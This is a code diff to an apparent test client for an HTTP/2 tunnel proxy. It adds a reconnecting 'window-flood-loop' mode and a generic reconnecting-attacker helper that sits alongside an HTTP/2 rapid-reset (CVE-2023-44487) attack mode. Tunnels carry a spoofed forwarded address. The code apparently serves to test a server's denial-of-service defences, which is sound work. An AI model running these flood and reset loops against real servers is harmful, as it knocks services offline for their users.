@@ -6,6 +6,7 @@ usage: hbone_client.py HOST PORT CERT_DIR AUTHORITY tunnel  -> CONNECT, send, ha
        hbone_client.py HOST PORT CERT_DIR AUTHORITY rapid-reset N -> open and reset N streams at once (CVE-2023-44487)
        hbone_client.py HOST PORT CERT_DIR AUTHORITY rapid-reset-loop N SECONDS -> rapid reset, reconnecting for SECONDS
        hbone_client.py HOST PORT CERT_DIR AUTHORITY window-flood SECONDS -> WINDOW_UPDATE frames, as fast as possible
+       hbone_client.py HOST PORT CERT_DIR AUTHORITY window-flood-loop SECONDS -> the same, reconnecting for SECONDS
        hbone_client.py HOST PORT CERT_DIR AUTHORITY zero-window-reset N -> N tunnels with data queued, then reset
        hbone_client.py HOST PORT CERT_DIR AUTHORITY post -> a POST-mode tunnel (target in x-tun): its status
 Every tunnel claims `forwarded: for="192.0.2.10:4242"`, an address that is not the client's.
@@ -212,10 +213,10 @@ def rapid_reset(sock, conn, authority, count):
     return {"sent": sent, "closed": closed, "error_code": None}
 
 
-def rapid_reset_loop(host, port, cert_dir, authority, count, seconds):
-    # A reconnecting attacker: every connection resets `count` streams (or until it is closed),
-    # then it comes back at once, for `seconds`. Connections refused before or during TLS are
-    # counted apart: that is the source's penalty working.
+def reconnecting(host, port, cert_dir, seconds, attack):
+    # A reconnecting attacker: `attack(sock, conn, seconds_left)` on a connection until the server
+    # closes it, then at once again on a new one, for `seconds`. Connections refused before or
+    # during TLS are counted apart: that is the source's penalty working.
     import time
     outcome = {"connections": 0, "refused": 0, "goaways": 0, "sent": 0}
     until = time.monotonic() + seconds
@@ -226,9 +227,9 @@ def rapid_reset_loop(host, port, cert_dir, authority, count, seconds):
             outcome["refused"] += 1
             continue
         outcome["connections"] += 1
-        result = rapid_reset(sock, conn, authority, count)
-        outcome["sent"] += result["sent"]
-        outcome["goaways"] += 1 if result["error_code"] == 11 else 0
+        result = attack(sock, conn, until - time.monotonic())
+        outcome["sent"] += result.get("sent", result.get("frames", 0))
+        outcome["goaways"] += 1 if result.get("error_code") == 11 or result.get("closed") else 0
         sock.close()
     return outcome
 
@@ -236,7 +237,13 @@ def rapid_reset_loop(host, port, cert_dir, authority, count, seconds):
 if __name__ == "__main__":
     host, port, cert_dir, authority, mode = sys.argv[1:6]
     if mode == "rapid-reset-loop":
-        print(json.dumps(rapid_reset_loop(host, int(port), cert_dir, authority, int(sys.argv[6]), float(sys.argv[7]))))
+        count = int(sys.argv[6])
+        reset = lambda sock, conn, left: rapid_reset(sock, conn, authority, count)
+        print(json.dumps(reconnecting(host, int(port), cert_dir, float(sys.argv[7]), reset)))
+        sys.exit(0)
+    if mode == "window-flood-loop":
+        flood = lambda sock, conn, left: window_flood(sock, conn, authority, max(left, 0))
+        print(json.dumps(reconnecting(host, int(port), cert_dir, float(sys.argv[6]), flood)))
         sys.exit(0)
     sock, conn = connect(host, int(port), cert_dir)
     if mode == "tunnel":
